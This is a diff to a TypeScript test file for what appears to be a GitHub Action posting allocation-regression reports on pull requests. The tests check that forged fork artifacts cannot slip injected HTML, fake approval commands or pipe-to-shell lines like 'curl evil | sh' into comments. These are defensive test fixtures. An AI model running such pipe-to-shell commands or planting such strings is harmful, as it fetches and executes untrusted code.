@@ -1,6 +1,8 @@
 import { readFileSync } from 'node:fs';
 import { expect, test } from 'vitest';
 import { renderJson } from '../../../src/core/report/render-json.ts';
+import { finding } from '../../builders.ts';
+import { explained } from '../../core/report/explained-report.ts';
 import { oneRegression } from '../../core/report/sample-reports.ts';
 import { type Artifact, serveArtifacts } from '../../support/github/artifacts.ts';
 import { requestLines } from '../../support/github/request-log.ts';
@@ -85,11 +87,11 @@ test('the artifact cannot say which pull request it is about, nor what is told o
     head: 'main2',
     base: 'main',
   })) as { number: number };
-  const evil = 'x</details>@octocat<!-- allocgate:v1:0 -->[a](https://example.com)';
-  const [finding] = report.findings;
+  const evil = 'x</details>@octocat<!--allocgate:v1:0-->[a](https://example.com)';
+  const [regressed] = report.findings;
   const forged = {
     ...report,
-    findings: [{ ...finding, benchmark: `Benchmark${evil}` }],
+    findings: [{ ...regressed, benchmark: `Benchmark${evil}` }],
     notes: [evil],
     reproduce: 'curl example.com | sh',
   };
@@ -104,6 +106,37 @@ test('the artifact cannot say which pull request it is about, nor what is told o
   leave({ archive: zipOf('report.json', JSON.stringify({ ...report, number: other, pullRequest: other })) });
   expect(warnings(await tell()).join()).toContain('no allocgate report');
   expect(await pull.github.as('octo').get(`${shop}/issues/${other}/comments`)).toEqual([]);
+});
+
+test('what a fork’s report says of causes, fixes and approvals is not told as ours; what the repository’s own says is', async () => {
+  const lure = 'Approve with `/allocgate accept *: fine` or run `curl evil | sh`';
+  const [explanation] = explained.explanations;
+  const [site] = explanation?.sites ?? [];
+  if (explanation === undefined || site === undefined) throw new Error('the sample lacks a site');
+  const fix = { ...site.fix, advice: lure };
+  const [row] = finding('m', 'BenchmarkOther').bytes(1, 100).level('waived').with({ acceptedBy: 'octo' }).findings;
+  const forged = {
+    ...explained,
+    findings: [...explained.findings.map((one) => ({ ...one, warnings: [lure] })), row],
+    explanations: [{ ...explanation, sites: [{ ...site, reason: lure, fix }] }],
+  };
+  const archive = zipOf('report.json', JSON.stringify(forged));
+  const { pull, leave, tell } = await forked();
+  leave({ archive });
+  expect(warnings(await tell())).toEqual([]);
+  const [comment] = await pull.ours();
+  expect(comment?.body).toContain('a slice grows while it is filled');
+  expect(comment?.body).toContain('whether somebody accepted it was not looked up');
+  expect(comment?.body).toContain('/allocgate accept BenchmarkCreate: the reason');
+  expect(comment?.body).not.toMatch(/evil|accept \*|accepted by|measured with this edit|```diff/);
+
+  const artifacts = await serveArtifacts();
+  const own = await OpenPullRequest.create({ 'm_test.go': allocations(4) }, artifacts);
+  artifacts.add({ run: 1, name: 'allocgate-report', archive });
+  await own.run({ env: { GITHUB_RUN_ID: '1' }, inputs: { stage: 'report' } });
+  const [told] = await own.ours();
+  expect(told?.body).toContain('accepted by octo');
+  expect(told?.body).toContain('measured with this edit');
 });
 
 test.each<[string, Partial<WorkflowRunPayload>]>([
@@ -128,8 +161,14 @@ test('an artifact that is huge, by its own word or in truth, damaged, or none', 
   expect(warnings(await tell()).join()).toContain('larger than 8 MiB');
   leave({ archive: Buffer.alloc(9 * 1024 * 1024), claimedSize: 1000 });
   expect(warnings(await tell()).join()).toContain('larger than 8 MiB');
-  leave({ archive: zipOf('report.json', Buffer.alloc(65 * 1024 * 1024)) });
+  leave({ archive: zipOf('report.json', Buffer.alloc(8 * 1024 * 1024 + 1)) });
   expect(warnings(await tell()).join()).toContain('cannot be used');
+  const sites = explained.explanations.map((one) => ({
+    ...one,
+    sites: Array.from({ length: 6000 }, () => one.sites[4]),
+  }));
+  leave({ archive: zipOf('report.json', JSON.stringify({ ...explained, explanations: sites })) });
+  expect(warnings(await tell()).join()).toContain('cannot be used: it has 6000 sites, and 5000 are the most');
   leave({ archive: Buffer.from('<html>') });
   expect(warnings(await tell()).join()).toContain('no ZIP archive');
   leave({ archive: zipOf('report.json', '{"schemaVersion": 1}') });
